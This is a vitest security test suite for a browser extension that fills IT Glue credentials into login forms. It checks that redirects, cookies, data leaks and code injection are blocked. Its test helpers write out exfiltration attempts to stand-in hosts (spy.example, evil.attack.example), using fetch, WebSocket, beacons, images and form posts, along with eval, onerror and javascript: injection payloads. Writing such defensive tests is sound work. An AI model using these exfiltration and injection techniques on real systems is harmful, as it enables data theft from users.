import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { EntryId } from '../../src/domain/ids.ts';
import type { Evaluate } from '../browser/surface.ts';
import { browserKinds } from '../e2e/desk.ts';
import { allValues, type Bench, holdsLoot, openBench, sleep } from './bench.ts';
import { htmlReply, loginForm, page } from './pages/html.ts';

const host = 'network.attack.example';
const api = 'https://api.itglue.com';

/** Where IT Glue's answers send the request, and what stands there. */
const redirects = [301, 302, 303, 307, 308].flatMap((status) => [
  [status, 'https://evil.attack.example/steal'] as const,
  [status, 'http://api.itglue.com/downgraded'] as const,
  [status, 'https://api.itglue.com:8443/elsewhere'] as const,
  // These two the content security policy of the extension would let pass.
  [status, 'https://api.itglue.com/elsewhere'] as const,
  [status, 'https://api.eu.itglue.com/elsewhere'] as const,
]);

/** Runs in a document or worker of the extension: tries to get a text out, and says for each way whether it went. */
async function leak(): Promise<Record<string, string>> {
  const foreign = 'https://spy.example/leak';
  const said = async (attempt: () => unknown): Promise<string> => {
    try {
      const result = await attempt();
      return result === undefined || result === null ? 'nothing' : String(result);
    } catch (error) {
      return `refused: ${(error as Error).name}`;
    }
  };
  const within = (attempt: Promise<unknown>) =>
    Promise.race([attempt, new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 1_500))]);
  const loaded = (target: EventTarget, start: () => void) =>
    within(
      new Promise((resolve, reject) => {
        for (const type of ['load', 'open']) target.addEventListener(type, () => resolve('went'));
        target.addEventListener('error', () => reject(new Error('refused')));
        start();
      }),
    );
  const out: Record<string, string> = {
    fetch: await said(() => within(fetch(`${foreign}?fetch`).then(() => 'went'))),
    'fetch without cors': await said(() => within(fetch(`${foreign}?opaque`, { mode: 'no-cors' }).then(() => 'went'))),
    'fetch by http': await said(() => within(fetch('http://spy.example/leak?http').then(() => 'went'))),
    socket: await said(() => {
      const socket = new WebSocket('wss://spy.example/leak?socket');
      return loaded(socket, () => undefined);
    }),
  };
  if (typeof document === 'undefined') return out;
  const element = (tag: 'img' | 'iframe' | 'link' | 'object' | 'video') => document.createElement(tag) as HTMLElement;
  const put = (tag: 'img' | 'link' | 'object' | 'video', attributes: Record<string, string>) => {
    const made = element(tag);
    return loaded(made, () => {
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      document.body.append(made);
    }).finally(() => made.remove());
  };
  out.image = await said(() => put('img', { src: `${foreign}?image` }));
  out.style = await said(() => put('link', { rel: 'stylesheet', href: `${foreign}?style` }));
  out.object = await said(() => put('object', { data: `${foreign}?object` }));
  out.frame = await said(() => {
    const frame = document.createElement('iframe');
    frame.src = `${foreign}?frame`;
    document.body.append(frame);
    return new Promise((resolve) => setTimeout(resolve, 300)).then(() => frame.remove());
  });
  out.beacon = await said(() => void navigator.sendBeacon(`${foreign}?beacon`, 'x'));
  out.form = await said(() => {
    const form = document.createElement('form');
    form.action = `${foreign}?form`;
    form.method = 'post';
    const frame = document.createElement('iframe');
    frame.name = form.target = 'nowhere';
    document.body.append(frame, form);
    form.submit();
  });
  return out;
}

/** Runs in a document of the extension: tries to make code or markup out of text. */
async function runText(): Promise<readonly string[]> {
  const view = window as unknown as { ran: string[]; eval(text: string): unknown; Function: FunctionConstructor };
  view.ran = [];
  const attempts: (() => unknown)[] = [
    () => view.eval('window.ran.push("eval")'),
    () => new view.Function('window.ran.push("function")')(),
    () => window.setTimeout('window.ran.push("timer")' as never, 0),
    () => {
      const script = document.createElement('script');
      script.textContent = 'window.ran.push("inline")';
      document.body.append(script);
      script.remove();
    },
    () => {
      const script = document.createElement('script');
      script.src = 'https://spy.example/leak?script';
      document.body.append(script);
    },
    () => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,window.ran.push("data")';
      document.body.append(script);
    },
    () => {
      const box = document.createElement('div');
      document.body.append(box);
      box.innerHTML = '<img src="x" onerror="window.ran.push(\'markup\')"><b id="markup"></b>';
    },
    () => {
      const box = document.createElement('div');
      box.setAttribute('onclick', 'window.ran.push("attribute")');
      document.body.append(box);
      box.click();
    },
    () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.ran.push("address")';
      document.body.append(link);
      link.click();
    },
  ];
  // In a task of the page's own: while the browser evaluates for a test, it lets eval pass.
  for (const attempt of attempts) setTimeout(attempt, 0);
  await new Promise((resolve) => setTimeout(resolve, 400));
  return document.querySelector('#markup') === null ? view.ran : [...view.ran, 'markup is in the page'];
}

const went = (said: Record<string, string>) => Object.entries(said).filter(([, word]) => word === 'went');

describe.each(browserKinds)('the network in %s', (kind) => {
  let bench: Bench;
  let entryId: EntryId;
  beforeAll(async () => {
    bench = await openBench(kind);
    bench.serve(host, page(loginForm()));
    const open = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' };
    for (const attacker of ['evil.attack.example', 'spy.example'])
      bench.serve(attacker, () => htmlReply('{"data":[]}', open));
    entryId = (await bench.link(host)).sessionId;
  });
  afterAll(() => bench?.close());
  afterEach(() => bench.desk.fake.faults.clear());

  const asked = () => bench.desk.asked();

  it.each(redirects)('SR-31: a redirect by %i to %s is not followed', async (status, to) => {
    const tab = await bench.visit(`https://${host}/`);
    const before = asked().length;
    bench.desk.fake.faults.add({
      fault: {
        kind: 'status',
        status,
        headers: { location: to, 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' },
      },
    });
    expect(await bench.fill(tab, entryId)).toBe('it-glue-down');
    expect(holdsLoot(await allValues(tab))).toBe(false);
    expect(bench.stolen()).toEqual([]);
    const since = asked().slice(before);
    expect(since.map(({ scheme, host: at, status: answered }) => [scheme, at, answered])).toEqual([
      ['https', 'api.itglue.com', status],
    ]);
  });

  it('SR-31: the one request has the key in its header alone, no cookie and no referer', async () => {
    bench.desk.fake.faults.add({
      when: { path: '/cookie' },
      fault: { kind: 'status', status: 200, headers: { 'set-cookie': 'sid=1; Secure; SameSite=None; Path=/' } },
    });
    await bench.visit(`${api}/cookie`);
    await bench.visit(`${api}/cookie`);
    expect(asked().at(-1)?.headers.cookie).toBe('sid=1');
    const tab = await bench.visit(`https://${host}/`);
    const before = asked().length;
    expect(await bench.fill(tab, entryId)).toBe('filled');
    const [request, ...others] = asked().slice(before);
    expect(others).toEqual([]);
    expect(request).toMatchObject({ method: 'GET', scheme: 'https', host: 'api.itglue.com', keyElsewhere: [] });
    expect(Object.keys(request?.headers ?? {})).not.toContain('cookie');
    expect(Object.keys(request?.headers ?? {})).not.toContain('referer');
  });

  const leaksNothing = async (evaluate: Evaluate): Promise<void> => {
    const before = bench.stolen();
    expect(went(await evaluate(leak))).toEqual([]);
    await sleep(300);
    expect(bench.stolen()).toEqual(before);
  };

  it('SR-32: nothing gets out of the options page, and no text becomes code', async () => {
    await leaksNothing(bench.desk.options.evaluate);
    expect(await bench.desk.options.evaluate(runText)).toEqual([]);
    expect(bench.stolen()).toEqual([]);
  });

  it('SR-32: nothing gets out of the popup, and no text becomes code', async () => {
    await bench.visit(`https://${host}/`);
    const popup = await bench.desk.popup();
    await leaksNothing(popup.surface.evaluate);
    expect(await popup.surface.evaluate(runText)).toEqual([]);
    expect(bench.stolen()).toEqual([]);
    await bench.desk.browser.closePopup();
  });

  it('SR-32: nothing gets out of the worker', async () => {
    await leaksNothing((fn, ...args) => bench.desk.browser.evaluateInWorker(fn, ...args));
  });

  it('SR-32: control: the same attempts in a web page do get out', async () => {
    const tab = await bench.visit(`https://${host}/`);
    const before = bench.stolen().length;
    expect(went(await tab.evaluate(leak)).map(([way]) => way)).toEqual(
      expect.arrayContaining(['fetch', 'fetch without cors']),
    );
    await sleep(300);
    const queries = bench
      .stolen()
      .slice(before)
      .map((hit) => /\?(\w+)/.exec(hit)?.[1]);
    expect(queries).toEqual(expect.arrayContaining(['fetch', 'opaque', 'image', 'style', 'object', 'frame', 'beacon']));
    expect(await tab.evaluate(runText)).toEqual(expect.arrayContaining(['eval', 'inline', 'attribute']));
  });
});
